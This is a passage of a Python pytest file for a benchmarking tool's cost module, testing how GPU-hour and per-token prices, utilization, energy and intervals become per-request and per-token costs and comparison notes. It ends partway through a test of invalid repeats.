"""Tests of costs: examples worked out by hand, parts, intervals, and what is comparable.

Examples titled "arithmetic only" mix one cloud's price with another's speed: they are no offers.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import msgspec
import pytest
import repository_paths
from expected_errors import refused
from golden import check_golden
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from loadgen.core.errors import CombinedError, UserError
from loadgen.core.metrics.summary import Summary, dump_summary, load_summary
from loadgen.core.metrics.task_summary import Sessions
from loadgen.core.results.manifest import ReasonCode
from loadgen.core.results.record import CONTRADICTORY_USAGE
from loadgen.core.server_metrics.energy import EnergyUse
from loadgen.core.stats.quantiles import Distribution
from loadgen.cost import comparison, cost_data, evidence_reader
from loadgen.cost import cost_text as report
from loadgen.cost.command import cost as command
from loadgen.cost.command import parse_utilization
from loadgen.cost.comparability import find_differences, find_remarks
from loadgen.cost.comparison import CostComparison, compare_costs
from loadgen.cost.cost_report import create_report as sections_of
from loadgen.cost.yearly_cost import compute_yearly_cost
from loadgen.pricing import price_file, prices, reasons
from loadgen.pricing.evidence import Evidence, list_evidence_notes
from loadgen.pricing.priced_result import PricedResult, price_result
from loadgen.pricing.unit_cost import UnitCost
from loadgen.pricing.units import GOOD, OUTPUT, REQUEST, TASK, TOTAL, UNITS
from loadgen.render import text as as_text
from loadgen.repeated.capacity import Capacity, dump_capacity

DATA = repository_paths.DATA
GPUS = load_summary((DATA / "summary_example_rag_gpus.json").read_bytes())
API = load_summary((DATA / "summary_example_qa_api.json").read_bytes())
TODAY = date(2026, 11, 21)
PARTS_ROUNDED = Decimal("3e-12")  # each of up to three parts, to 1e-12


def changed(summary: Summary, **parts: dict[str, Any]) -> Summary:
    """Return a summary with fields of its parts replaced: `changed(s, target={"gpus": 8})`."""
    new = {
        name: msgspec.structs.replace(getattr(summary, name), **fields)
        for name, fields in parts.items()
    }
    return msgspec.structs.replace(summary, **new)


def book(*entries: str, currency: str = "USD") -> prices.Prices:
    kinds = {"rented": [], "owned": [], "per_token": []}  # type: dict[str, list[str]]
    for entry in entries:
        kind, _, fields = entry.partition(": ")
        kinds[kind].append(f"  - {{{fields}, as_of: 2026-11-01, source: test}}")
    lines = [f"currency: {currency}"]
    lines += [line for kind, items in kinds.items() if items for line in (f"{kind}:", *items)]
    return price_file.parse_prices("\n".join(lines), "prices.yaml", today=TODAY, env={})


def rent(per_hour: str, gpus: int = 4, **more: str) -> str:
    fields = "".join(f", {key}: {value}" for key, value in more.items())
    shape = "provider: P, shape: ND128isr_GB300_v6, gpu: G"
    return f"rented: {shape}, gpus: {gpus}, per_hour: {per_hour}{fields}"


def printed(cost_comparison: CostComparison) -> str:
    return as_text.render(sections_of(cost_comparison), full=True)


def priced(
    summary: Summary,
    entry: str,
    *,
    capacity: Capacity | None = None,
    utilization: str = "1",
    name: str = "x",
) -> PricedResult:
    price_book = book(entry)
    evidence = Evidence(name=name, folder=name, summaries=(summary,), capacity=capacity)
    gpus = summary.target.gpus
    return price_result(
        evidence,
        price_book.entries[0],
        name,
        "prices.yaml",
        gpus=gpus,
        utilization=Decimal(utilization),
    )


def knee(
    rate: float, low: float | None = None, high: float | None = None, recipe: str = "r"
) -> Capacity:
    return Capacity(rate_per_s=rate, low_per_s=low, high_per_s=high, method="search", recipe=recipe)


def confirmed_capacity(rate: float, low: float, high: float, recipe: str = "r") -> Capacity:
    """Return a confirmed capacity as a search writes it, with the steady tokens of its run."""
    tokens = {"output_tokens_per_s": rate * 1200, "total_tokens_per_s": rate * 2520}
    return msgspec.structs.replace(knee(rate, low, high, recipe), confirmed=True, **tokens)


def at_rate(tokens_per_s: float, tokens_per_request: float, gpus: int = 1) -> Summary:
    """Return a run with these steady rates on `gpus` GPUs."""
    per_s = tokens_per_s / tokens_per_request
    return changed(
        GPUS,
        target={"gpus": gpus},
        load={"steady_completed_rps": per_s},
        goodput={"steady_rps": per_s},
        tokens={"steady_output_per_s": tokens_per_s},
    )


@pytest.mark.parametrize(
    ("per_gpu_hour", "tokens_per_s", "per_million_output", "per_thousand_requests"),
    [
        ("18.00", 15291, "0.327", "0.0892"),  # Oracle's GB300 price, Azure's GB300 Offline speed
        ("10.50", 13015, "0.224", "0.0611"),  # CoreWeave's GB200 price, Azure's GB200 Offline speed
        ("10.50", 11504, "0.254", "0.0691"),  # the same price, Azure's GB200 Server speed
    ],
)
def test_cost_at_one_price_and_another_speed_equals_the_calculation(
    per_gpu_hour: str, tokens_per_s: float, per_million_output: str, per_thousand_requests: str
):
    priced_result = priced(
        at_rate(tokens_per_s, 272.7), f"rented: provider: P, gpu: G, per_gpu_hour: {per_gpu_hour}"
    )
    output, request = priced_result.costs[OUTPUT], priced_result.costs[REQUEST]
    assert output and request
    assert report.format_money(output.total, 3) == per_million_output
    assert report.format_money(request.total * 1000, 3) == per_thousand_requests


def test_cached_and_uncached_tokens_are_priced_separately():
    """1,980,000 prompt tokens, 24,000 of them cached, 1,800,000 out, 1,500 requests."""
    entry = (
        "per_token: provider: P, model: m, per_million_input: 0.5, "
        "per_million_output: 1.5, per_million_cached: 0.1"
    )
    costs = priced(GPUS, entry).costs
    request, output, total = costs[REQUEST], costs[OUTPUT], costs[TOTAL]

    assert request and output and total
    expected_total = Decimal("0.978") + Decimal("0.0024") + Decimal("2.7")
    assert request.parts == {
        "input": Decimal("0.978") / 1500,
        "cached_input": Decimal("0.0024") / 1500,
        "output": Decimal("2.7") / 1500,
    }
    assert request.total == expected_total / 1500
    assert abs(output.total - expected_total / Decimal("1.8")) < PARTS_ROUNDED
    assert abs(total.total - expected_total / Decimal("3.78")) < PARTS_ROUNDED


def test_failed_requests_are_included_in_the_cost():
    entry = "per_token: provider: P, model: m, per_million_input: 1, per_million_output: 1"
    sound = changed(API, verdict={"valid": True})
    with_failed = changed(sound, tokens={"failed_input": 1000, "failed_output": 500})
    before, after = priced(sound, entry).costs[GOOD], priced(with_failed, entry).costs[GOOD]
    assert before and after
    assert abs(before.total - Decimal(48664 + 150797) / 10**6 / 295) < PARTS_ROUNDED
    assert abs(after.total - before.total - Decimal(1500) / 10**6 / 295) < 2 * PARTS_ROUNDED


POWER = "{watts: 5000, idle_watts: 2000, pue: 1.2, per_kwh: 0.1, counted: by_load}"


def test_doubled_utilization_halves_the_gpu_hours_and_nothing_else():
    entry = rent("60", egress_per_gb="0.05", energy=POWER)
    half = priced(GPUS, entry, capacity=knee(20), utilization="0.4").costs
    full = priced(GPUS, entry, capacity=knee(20), utilization="0.8").costs
    for unit in (REQUEST, GOOD, OUTPUT, TOTAL):
        a, b = half[unit], full[unit]
        assert a and b
        assert abs(a.parts["machines"] - 2 * b.parts["machines"]) <= Decimal("1e-12")
        assert {part: a.parts[part] for part in ("energy", "egress")} == {
            part: b.parts[part] for part in ("energy", "egress")
        }


@pytest.mark.parametrize(
    "entry",
    [
        rent("60"),
        rent("60", egress_per_gb="0.0512", energy=POWER),
        "per_token: provider: P, model: m, per_million_input: 0.77, per_million_output: 1.31, "
        "per_million_cached: 0.19, egress_per_gb: 0.013",
    ],
)
def test_costs_are_the_sum_of_their_parts_exactly(entry: str):
    costs = [cost for cost in priced(GPUS, entry).costs.values() if cost]
    assert len(costs) == 4
    for cost in costs:
        assert cost.total == sum(cost.parts.values())
        assert all(isinstance(amount, Decimal) for amount in cost.parts.values())


def test_power_is_in_the_price_or_in_the_energy_term_and_never_in_both():
    """5 kW under load, 2 kW idle, PUE 1.2, 0.10 per kWh: 0.60 per hour, 0.24 of it idle."""
    by_load = priced(GPUS, rent("60", energy=POWER), capacity=knee(20))
    hourly = priced(GPUS, rent("60", energy=POWER.replace("by_load", "hourly")), capacity=knee(20))
    no_money = "{watts: 5000, pue: 1.2, counted: included}"
    included = priced(GPUS, rent("60", energy=no_money), capacity=knee(20))

    assert by_load.hourly_cost_parts == {"rent": 60, "idle power": Decimal("0.24")}
    assert hourly.hourly_cost_parts == {"rent": 60, "power": Decimal("0.60")}
    assert included.hourly_cost_parts == {"rent": 60}
    totals = [result.costs[REQUEST].total * 3600 * 20 for result in (by_load, hourly, included)]  # type: ignore[union-attr]
    assert [round(total, 6) for total in totals] == [Decimal("60.6"), Decimal("60.6"), Decimal(60)]

    for priced_result in (
        by_load,
        hourly,
        included,
    ):  # 5000 W x 1.2 over 20 x 1200 tokens/s, whoever pays
        assert (
            priced_result.declared_power
            and priced_result.declared_power.joules_per_output_token == Decimal("0.25")
        )
        assert priced_result.declared_power.output_tokens_per_s_per_mw == 4_000_000
        kwh = priced_result.declared_power.kwh[REQUEST]
        assert kwh and round(kwh * 72_000, 6) == 6


def test_measured_energy_is_reported_and_changes_no_cost():
    """0.2 J a token; at 0.10 per kWh and PUE 1.2 a million of them cost 0.2e6 / 3.6e6 * 0.12."""
    energy_use = EnergyUse(
        watts=1200.0,
        joules=12_000.0,
        error_j=600.0,
        joules_per_output_token=0.2,
        joules_per_request=240.0,
    )
    without = priced(GPUS, rent("60", energy=POWER), capacity=knee(20))
    priced_result = priced(
        msgspec.structs.replace(GPUS, energy=energy_use),
        rent("60", energy=POWER),
        capacity=knee(20),
    )

    assert (priced_result.costs, priced_result.declared_power) == (
        without.costs,
        without.declared_power,
    ) and without.measured_energy is None
    assert (
        priced_result.measured_energy is not None
        and priced_result.measured_energy.error == Decimal("0.05")
    )
    million = priced_result.measured_energy.money[OUTPUT]
    assert million is not None and round(million, 9) == round(
        Decimal("0.2") * 120_000 / 3_600_000, 9
    )

    unpriced = priced(
        msgspec.structs.replace(GPUS, energy=energy_use), rent("60"), capacity=knee(20)
    ).measured_energy

    assert unpriced is not None and unpriced.money[OUTPUT] is None
    assert "power_understated" not in noted(priced_result)

    much = EnergyUse(watts=9e9, joules=12_000.0, error_j=600.0, joules_per_output_token=0.2)
    more = priced(
        msgspec.structs.replace(GPUS, energy=much), rent("60", energy=POWER), capacity=knee(20)
    )

    assert (
        noted(more)["power_understated"]["declared"] == priced_result.declared_power.watts
        and more.costs == priced_result.costs
    )


def coded(notes: Sequence[ReasonCode]) -> dict[str, dict[str, Any]]:
    return {reason_code.code: reason_code.values for reason_code in notes}


def noted(priced_result: PricedResult) -> dict[str, dict[str, Any]]:
    return coded(priced_result.note_codes)


def test_every_note_code_of_a_cost_has_a_message_and_is_used_and_listed():
    package = Path(comparison.__file__).parent.parent
    files = [*(package / "cost").glob("*.py"), *(package / "pricing").glob("*.py")]
    raised = set(re.findall(r'note\(\s*"(\w+)"', "".join(file.read_text() for file in files)))
    chosen = {
        "slo_missed_at_capacity",
        "slo_missed",
        "model_differs",
        "region_differs",
    }  # written with a condition

    assert raised | chosen == set(reasons.SENTENCES)

    text = (repository_paths.ROOT / "docs/reference/costs.md").read_text()
    listed = re.findall(r"(?m)^- `(\w+)`:", text.partition("## Note codes")[2])
    assert sorted(listed) == sorted(reasons.SENTENCES)


def test_notes_with_missing_values_have_a_message():
    cold, warm = (
        reasons.make_note("cache_differs", a=0.012, b=None),
        reasons.make_note("cache_differs", a=0.3, b=0.05),
    )

    assert reasons.render_notes([cold, warm]) == (
        "different prefix cache hit rates: cold, 1.2 %; unknown",
        "different prefix cache hit rates: warm, 30.0 %; cold, 5.0 %",
    )
    assert reasons.render_notes([reasons.make_note("region_differs", a="", b="eastus")]) == (
        "different regions: unknown, eastus",
    )

    bare, known_reason_code = (
        reasons.make_note("egress_unpriced", request_kb=None),
        reasons.make_note("egress_unpriced", request_kb=12.34),
    )
    without_size, with_size = reasons.render_notes([bare, known_reason_code])

    assert "kB" not in without_size
    assert "(12.3 kB per request)" in with_size


def test_purchased_machines_include_depreciation_and_staff():
    """876,000 over 10 years is 10 an hour, 5 % of it a year is 5 an hour; 4 of 8 GPUs pay half."""
    entry = (
        "owned: shape: s, gpu: G, gpus: 8, capital: 876000, years: 10, staff_share: 0.05, "
        "energy: {watts: 8000, pue: 1.25, per_kwh: 0.1, counted: hourly}"
    )
    priced_result = priced(GPUS, entry)

    assert priced_result.hourly_cost_parts == {
        "capital": 5,
        "staff": Decimal("2.5"),
        "power": Decimal("0.5"),
    }
    assert noted(priced_result)["part_of_machines"] == {"used": 4, "bought": 8}


def test_the_cost_includes_all_gpus_of_a_rented_machine():
    priced_result = priced(changed(GPUS, target={"gpus": 5}), rent("60"))
    assert priced_result.gpus_paid == 8 and priced_result.hourly_cost_parts == {"rent": 120}
    assert noted(priced_result)["whole_machines"] == {"used": 5, "paid": 8}


def test_the_interval_of_a_cost_is_the_inverse_of_that_of_the_rate():
    unit_cost = priced(GPUS, rent("72", egress_per_gb="0.05"), capacity=knee(20, 16, 25)).costs[
        REQUEST
    ]

    assert unit_cost and unit_cost.low is not None and unit_cost.high is not None
    egress = unit_cost.parts["egress"]
    assert unit_cost.parts["machines"] == Decimal("0.001")
    assert unit_cost.low - egress == Decimal("0.0008") and unit_cost.high - egress == Decimal(
        "0.00125"
    )


def test_the_cost_of_a_request_uses_the_tokens_of_the_run_at_capacity():
    """10 requests/s, of which 90 % are good, are 9 good ones; each has 1,200 tokens."""
    summary = changed(GPUS, goodput={"good": 1350, "share": 0.9})
    costs = priced(summary, rent("36"), capacity=knee(10)).costs
    request, good_unit_cost, output = costs[REQUEST], costs[GOOD], costs[OUTPUT]
    assert request and good_unit_cost and output
    assert request.total == Decimal("0.001")
    assert good_unit_cost.total == (Decimal("0.001") / Decimal("0.9")).quantize(Decimal("1e-12"))
    assert output.total == (Decimal("0.001") / Decimal("0.0012")).quantize(Decimal("1e-12"))


def test_tokens_of_a_capacity_equal_those_of_its_run():
    """The steady rate of 11,500 tokens/s is used, not 12,000 from the counts of the run."""
    tokens = {"output_tokens_per_s": 11_500.0, "total_tokens_per_s": 24_000.0}
    costs = priced(GPUS, rent("36"), capacity=msgspec.structs.replace(knee(10), **tokens)).costs
    request, output, total = costs[REQUEST], costs[OUTPUT], costs[TOTAL]
    assert request and output and total
    assert request.total == Decimal("0.001")
    assert output.total == (Decimal("0.01") / Decimal("0.0115")).quantize(Decimal("1e-12"))
    assert total.total == (Decimal("0.01") / Decimal("0.024")).quantize(Decimal("1e-12"))


def test_a_capacity_without_a_steady_run_uses_its_stored_rate(tmp_path: Path) -> None:
    """Its run has no steady tokens: the requests of a mix came over longer than its starts did."""
    never = changed(GPUS, tokens={"steady_output_per_s": None, "steady_total_per_s": None})
    (tmp_path / "r40").mkdir()
    (tmp_path / "r40" / "summary.json").write_bytes(dump_summary(never))
    (tmp_path / "capacity.json").write_bytes(
        dump_capacity(Capacity(rate_per_s=40.0, method="sweep", evidence="r40"))
    )
    (evidence,) = evidence_reader.read_evidence([tmp_path])
    assert evidence.capacity is not None and evidence.capacity.rate_per_s == 40


def offline(*, is_closed_loop: bool = False) -> Summary:
    """Return an Offline run: all requests are due at once, or it has its own time under load."""
    steady = {} if is_closed_loop else {"steady_completed_rps": None}
    tokens = {} if is_closed_loop else {"steady_output_per_s": None, "steady_total_per_s": None}
    span = (
        GPUS.window.steady
        if is_closed_loop
        else msgspec.structs.replace(GPUS.window.steady, duration_s=0.0)
    )
    goodput = {"slo": (), "met": None, "share": None, "good": None, "rps": None, "steady_rps": None}
    load = {"offered_rps": None, "arrival": "everything at once", **steady}
    return changed(GPUS, load=load, tokens=tokens, window={"steady": span}, goodput=goodput)


@pytest.mark.parametrize("is_closed_loop", [False, True])
def test_an_offline_run_is_priced_by_its_measurement_window(tmp_path: Path, is_closed_loop: bool):
    (tmp_path / "summary.json").write_bytes(dump_summary(offline(is_closed_loop=is_closed_loop)))
    if is_closed_loop:
        (tmp_path / "mlperf.json").write_text('{"scenario": "offline", "valid": true}')
    (evidence,) = evidence_reader.read_evidence([tmp_path])
    priced_result = price_result(
        evidence, book(rent("36")).entries[0], "x", "", gpus=4, utilization=Decimal(1)
    )
    output = priced_result.costs[OUTPUT]

    assert priced_result.basis.label == "Offline"
    assert output and GPUS.tokens.output_per_s is not None
    assert float(output.total) == pytest.approx(10_000 / GPUS.tokens.output_per_s, rel=1e-6)
    assert "at_once" in noted(priced_result) and not noted(priced_result).keys() & {
        "own_load",
        "no_slo",
    }
    assert "in the measurement window" in report.describe_measurement(priced_result)
    assert "one_at_once" in coded(find_differences(priced_result, priced(GPUS, rent("36"))))


def test_gpus_that_contradict_the_run_are_refused(results: Path):
    """A result of 72 GPUs is not shown as one of 4."""
    rack = changed(GPUS, target={"gpus": 72})
    (results / "azure" / "summary.json").write_bytes(dump_summary(rack))
    how: dict[str, Any] = {"prices": results / "prices.yaml", "utilization": "1"}
    with refused(CombinedError, "conflict", "--gpus") as exc_info:
        command([results / "azure"], gpus=["azure=4"], **how)
    assert exc_info.value.exit_code == 2
    assert command([results / "azure"], gpus=["azure=72"], **how) == 0


def test_the_price_of_another_machine_has_a_prominent_warning():
    entry = "rented: provider: P, shape: ND96isr_H100_v5, gpu: H100, gpus: 8, per_gpu_hour: 12.29"
    priced_result = priced(GPUS, entry)
    shape = "ND128isr_GB300_v6"

    assert noted(priced_result)["other_gpu"] == {
        "measured": ["GB300"],
        "where": shape,
        "priced": "H100",
    }
    assert any(
        note.startswith(f"OTHER INSTANCE TYPE: measured on GB300 ({shape})")
        for note in priced_result.notes
    )
    assert "OTHER INSTANCE TYPE" in report.describe_basis_and_caveats(priced_result)

    rack = priced(
        changed(GPUS, target={"shape": "", "name": "simulated: gb300-rack", "simulated": True}),
        entry,
    )

    assert noted(rack)["other_gpu"]["where"] == "simulated: gb300-rack"

    stand_in = priced(
        GPUS,
        "rented: provider: Oracle, shape: BM.GPU.GB300.4, gpu: GB300, gpus: 4, per_gpu_hour: 18",
    )

    assert noted(stand_in)["other_shape"] == {
        "measured": shape,
        "provider": "Oracle",
        "priced": "BM.GPU.GB300.4",
    }
    assert not noted(priced(GPUS, rent("60"))).keys() & {"other_gpu", "other_shape"}


def test_a_run_that_was_offered_less_than_its_capacity_has_a_note():
    """The schedule offered 19.9 requests/s, so the cost is not that of the nominal 20.5/s."""
    notes = noted(priced(GPUS, rent("60"), capacity=knee(20.5)))
    assert notes["offered_less"] == {"asked_per_s": 20.5, "offered_per_s": GPUS.load.offered_rps}
    assert "offered_less" not in noted(priced(GPUS, rent("60"), capacity=knee(20)))


def test_assumptions_that_a_price_leaves_open_are_stated():
    bare = priced(GPUS, "rented: provider: P, gpu: GB300, per_gpu_hour: 18")

    assert noted(bare)["egress_unpriced"]["request_kb"] > 0 and "machine_unknown" in noted(bare)
    assert any(" kB per request)" in note for note in bare.notes)
    priced_result = priced(GPUS, rent("60", egress_per_gb="0.05"))
    assert not noted(priced_result).keys() & {
        "egress_unpriced",
        "egress_uncounted",
        "machine_unknown",
    }
    unsaid = changed(GPUS, bytes={"received": 0})
    assert "egress_uncounted" in noted(priced(unsaid, rent("60", egress_per_gb="0.05")))
    assert noted(priced(unsaid, rent("60")))["egress_unpriced"] == {"request_kb": None}

    copied = bare.price.model_copy(update={"as_of": "undated", "source": "not stated"})
    evidence = Evidence(name="x", folder="x", summaries=(GPUS,))
    assert {"price_undated", "price_unsourced"} <= noted(
        price_result(evidence, copied, "x", "", gpus=4, utilization=Decimal(1))
    ).keys()
    assert "undated, no source stated" in prices.describe_price(copied)


def test_an_agentic_task_costs_all_its_turns():
    duration = Distribution(
        count=0, mean=None, min=None, p50=None, p90=None, p95=None, p99=None, p99_9=None, max=None
    )
    sessions = Sessions(count=375, ok=300, ok_per_s=4.0, steady_ok_per_s=5.0, duration_ms=duration)
    summary = msgspec.structs.replace(GPUS, sessions=sessions)
    by_hour = priced(summary, rent("36")).costs[TASK]
    entry = (
        "per_token: provider: P, model: m, per_million_input: 1, "
        "per_million_cached: 1, per_million_output: 1"
    )
    by_token = priced(summary, entry).costs[TASK]
    capacity = Capacity(rate_per_s=5, unit="conversations", method="search")
    at_knee = priced(summary, rent("36"), capacity=capacity).costs

    assert by_hour and by_hour.total == Decimal("0.002")  # 0.01 a second over 5 tasks a second
    assert by_token and by_token.total == Decimal("3.78") / 300
    task, request = at_knee[TASK], at_knee[REQUEST]
    assert task and task.total == Decimal("0.0025")  # 4 of 5 succeed
    assert request and request.total == Decimal("0.0005")  # four turns each


def test_utilization_without_a_capacity_is_refused():
    with refused(UserError, "no_effect"):
        priced(GPUS, rent("60"), utilization="0.4")


def test_cached_tokens_without_a_price_are_refused():
    with refused(UserError, "no_price") as exc_info:
        priced(
            GPUS, "per_token: provider: P, model: m, per_million_input: 1, per_million_output: 1"
        )
    assert "per_million_cached" in exc_info.value.hint


def test_a_single_run_has_a_note_that_it_is_priced_at_its_load():
    priced_result = priced(GPUS, rent("60"))
    assert priced_result.basis.label == "at this load"
    cost = priced_result.costs[REQUEST]
    assert cost and cost.low is None and cost.high is None
    assert "own_load" in noted(priced_result)


def test_good_requests_are_priced_by_those_that_were_completed():
    priced_result = priced(
        changed(GPUS, load={"steady_completed_rps": 10.0}, goodput={"steady_rps": 8.0}), rent("60")
    )
    all_requests, good_unit_cost = priced_result.costs[REQUEST], priced_result.costs[GOOD]
    assert all_requests is not None and good_unit_cost is not None
    assert good_unit_cost.total == pytest.approx(all_requests.total * 10 / 8)


MISSED = changed(GPUS, goodput={"met": False})
PER_TOKEN = (
    "per_token: provider: P, model: m, per_million_input: 1, per_million_cached: 1, "
    "per_million_output: 1"
)


def test_a_run_that_missed_its_slo_has_no_price_in_the_headline():
    cost_comparison = compare_costs([priced(MISSED, rent("60"))], book(rent("60")))
    (sentence,) = report.create_headlines(cost_comparison)
    assert "USD" not in sentence
    assert "SLO MISSED" in [warned.label for warned in report.list_warnings(cost_comparison)]
    assert cost_comparison.results[0].costs[REQUEST] is not None
    output = printed(cost_comparison)
    assert output.index("SLO MISSED") < output.index("USD")


@pytest.mark.parametrize(
    ("sustained", "code", "word"),
    [
        (True, None, None),
        (False, "overloaded", "NOT SUSTAINED"),
        (None, "not_sustained", "STABILITY UNKNOWN"),
    ],
)
def test_the_price_is_preceded_by_whether_the_load_is_sustained(
    sustained: bool | None, code: str | None, word: str | None
):
    run = changed(GPUS, sustainable={"sustained": sustained, "reason": "because"})
    priced_result = priced(run, rent("60"))

    assert {"overloaded", "not_sustained"} & set(noted(priced_result)) == (
        {code} if code else set()
    )
    output = printed(compare_costs([priced_result], book(rent("60"))))
    assert word is None or output.index(word) < output.index("USD")
    by_token = priced(run, PER_TOKEN)
    assert word is None or word not in printed(compare_costs([by_token], book(PER_TOKEN)))


def test_an_invalid_run_has_no_good_requests():
    priced_result = priced(
        changed(GPUS, verdict={"valid": False, "reasons": ("late",)}), rent("60")
    )

    assert (
        priced_result.costs[GOOD] is None
        and priced_result.basis.rates[GOOD] is None
        and priced_result.costs[REQUEST] is not None
    )
    assert noted(priced_result)["invalid"] == {"reasons": ["late"], "codes": []}


def two(a: PricedResult, b: PricedResult) -> CostComparison:
    return compare_costs([a, b], book(rent("60")))


def test_the_output_of_cost_equals_the_stored_text():
    a = priced(GPUS, rent("60"), capacity=confirmed_capacity(20, 19, 21), name="a")
    b = priced(GPUS, rent("70"), capacity=confirmed_capacity(20, 19, 21), name="b")
    report_of_both = sections_of(two(a, b))
    check_golden("cost", as_text.render(report_of_both))
    check_golden("cost_full", as_text.render(report_of_both, full=True))


@pytest.mark.parametrize(
    ("code", "values", "parts"),
    [
        ("recipe_differs", {"b": "other"}, {"fingerprints": {"recipe": "other"}}),
        ("slo_differs", {}, {"goodput": {"share_limit": None}}),
        (
            "count_differs",
            {"tokens": "output", "a": "server", "b": "estimate"},
            {
                "tokens": {
                    "sources": API.tokens.sources.__class__(
                        input={"server": 1}, output={"estimate": 1}
                    )
                }
            },
        ),
        ("cache_differs", {"b": 0.3}, {"tokens": {"cached_share": 0.3}}),
        ("cache_differs", {"b": None}, {"tokens": {"cached_share": None}}),
        ("one_simulated", {}, {"target": {"simulated": True}}),
    ],
)
def test_offers_of_different_work_are_not_compared(
    code: str, values: dict[str, Any], parts: dict[str, dict[str, Any]]
):
    a, b = priced(GPUS, rent("60"), name="a"), priced(changed(GPUS, **parts), rent("60"), name="b")
    cost_comparison = two(a, b)
    (pair,) = cost_comparison.ratios

    assert pair.ratio is None and pair.judgment == "not comparable"
    (reason_code,) = pair.difference_codes
    assert reason_code.code == code and values.items() <= reason_code.values.items()
    assert cost_comparison.differences_from_first == ((), pair.difference_codes)
    text = printed(cost_comparison)
    assert "b *" in text and "NOT COMPARABLE" in text


def test_different_seeds_of_two_offers_cause_only_a_note():
    first_priced_result = priced(GPUS, rent("60"), name="a")
    second_priced_result = priced(changed(GPUS, run={"seed": 3}), rent("60"), name="b")
    assert find_differences(first_priced_result, second_priced_result) == ()
    assert [note.code for note in find_remarks(first_priced_result, second_priced_result)] == [
        "seed_differs"
    ]


def test_a_capacity_is_not_compared_with_a_load():
    a, b = (
        priced(GPUS, rent("60"), capacity=knee(20, 19, 21), name="a"),
        priced(GPUS, rent("60"), name="b"),
    )
    assert coded(two(a, b).ratios[0].difference_codes) == {"one_at_capacity": {}}


@pytest.mark.parametrize(
    ("first_capacity", "second_capacity", "word"),
    [
        (knee(20, 19, 21), knee(21, 20, 22), "no significant difference"),
        (knee(20, 19, 21), knee(26, 25, 27), "b is cheaper"),
        (knee(26, 25, 27), knee(20, 19, 21), "a is cheaper"),
        (knee(20), knee(26, 25, 27), "not judged, because a single run has no interval"),
    ],
)
def test_two_offers_differ_if_the_interval_of_their_ratio_excludes_one(
    first_capacity: Capacity, second_capacity: Capacity, word: str
):
    a, b = (
        priced(GPUS, rent("60"), capacity=first_capacity, name="a"),
        priced(GPUS, rent("60"), capacity=second_capacity, name="b"),
    )
    (pair,) = two(a, b).ratios

    assert pair.judgment == word
    assert pair.ratio is not None
    assert (pair.low is not None and pair.low <= 1 <= (pair.high or 0)) == (
        word == "no significant difference"
    )


def test_the_interval_of_a_cost_ratio_adds_squared_errors_on_the_log_scale():
    """Two rates with a factor of 1.1 each give a ratio with a factor of 1.1 ** sqrt(2)."""
    a = priced(GPUS, rent("60"), capacity=knee(20, 20 / 1.1, 22), name="a")
    b = priced(GPUS, rent("60"), capacity=knee(20, 20 / 1.1, 22), name="b")
    (pair,) = two(a, b).ratios
    assert float(pair.high or 0) == pytest.approx(1.1**2**0.5, rel=1e-6)
    assert float(pair.low or 0) == pytest.approx(1.1 ** -(2**0.5), rel=1e-6)


def test_two_prices_of_one_measurement_share_its_rate():
    evidence = Evidence(name="x", folder="x", summaries=(GPUS,), capacity=knee(20, 10, 40))
    low, high = (
        price_result(
            evidence, book(rent(price)).entries[0], price, "", gpus=4, utilization=Decimal(1)
        )
        for price in ("50", "60")
    )
    (pair,) = two(low, high).ratios

    assert (
        pair.judgment == "50 is cheaper"
        and pair.low
        and abs(pair.low - pair.high) < Decimal("1e-6")
    )  # type: ignore[operator]


def test_the_break_even_volume_is_the_fixed_cost_divided_by_the_price_difference():
    """1,728 per day at 0.00252 per request breaks even at 685,714 of 1,728,000 requests."""
    entry = (
        "per_token: provider: P, model: m, per_million_input: 1, "
        "per_million_cached: 1, per_million_output: 1"
    )
    a, b = priced(GPUS, rent("72"), capacity=knee(20), name="gpus"), priced(GPUS, entry, name="api")
    (break_even,) = two(a, b).break_evens

    assert (
        break_even.units_per_day
        and round(break_even.units_per_day) == 685_714
        and round(break_even.capacity_per_day) == 1_728_000
    )
    assert break_even.judgment.startswith("the machines cost less from 685,714 ")
    (dear,) = two(priced(GPUS, rent("720"), capacity=knee(20), name="gpus"), b).break_evens
    assert dear.judgment.startswith("not with these machines")


def test_the_most_sensitive_assumption_is_listed_first():
    priced_result = priced(
        GPUS, rent("60", egress_per_gb="0.05"), capacity=knee(20, 19, 21), utilization="0.5"
    )
    swings = compare_costs([priced_result], book(rent("60"))).sensitivities

    assert [swing.input_name for swing in swings] == [
        "utilization",
        "price per hour",
        "capacity",
        "price of egress",
    ]
    assert swings[0].cost_with_lower_input > swings[0].cost_with_higher_input
    assert swings[1].cost_with_lower_input < swings[1].cost_with_higher_input


def test_the_result_states_the_utilization_of_the_machines():
    """`size` said 0.913 of what `cost` called 0.512, and only one of them said why."""
    outputs = [
        printed(
            compare_costs(
                [priced(GPUS, rent("60"), capacity=knee(20), utilization=share)], book(rent("60"))
            )
        )
        for share in ("0.5", "1")
    ]
    half, full = (" ".join(text.split()) for text in outputs)

    assert "60.00 per hour, utilization 50.0 %." in half
    assert "60.00 per hour." in full


def test_the_rate_of_repeats_has_the_interval_of_their_variation(tmp_path: Path):
    for i, per_s in enumerate((19.0, 20.0, 21.0)):
        (tmp_path / "r" / str(i)).mkdir(parents=True)
        run = changed(GPUS, load={"steady_completed_rps": per_s}, goodput={"steady_rps": per_s})
        (tmp_path / "r" / str(i) / "summary.json").write_bytes(dump_summary(run))
    (evidence,) = evidence_reader.read_evidence([tmp_path / "r"])
    priced_result = price_result(
        evidence, book(rent("72")).entries[0], "r", "", gpus=4, utilization=Decimal(1)
    )
    cost = priced_result.costs[GOOD]

    assert priced_result.basis.label == "at this load, 3 repeats"
    assert cost and cost.low and cost.high and cost.total == Decimal("0.001")
    half = 4.30265273 / 3**0.5  # Student's t with 2 degrees of freedom, standard deviation 1
    assert float(cost.low) == pytest.approx(0.02 / (20 + half), rel=1e-6)
    assert float(cost.high) == pytest.approx(0.02 / (20 - half), rel=1e-6)


def test_an_invalid_repeat_is_excluded_from_the_rate_and_named(tmp_path: Path):
    """One INVALID repeat of three refused the price of the other two."""
    for i, per_s in enumerate((19.0, 21.0, 90.0)):
        (tmp_path / "r" / str(i)).mkdir(parents=True)
        run = changed(GPUS, load={"steady_completed_rps": per_s}, goodput={"steady_rps": per_s})
        if per_s == 90.0:
            verdict = msgspec.structs.replace(run.verdict, valid=False, reasons=("late",))
            run = msgspec.structs.replace(run, verdict=verdict)
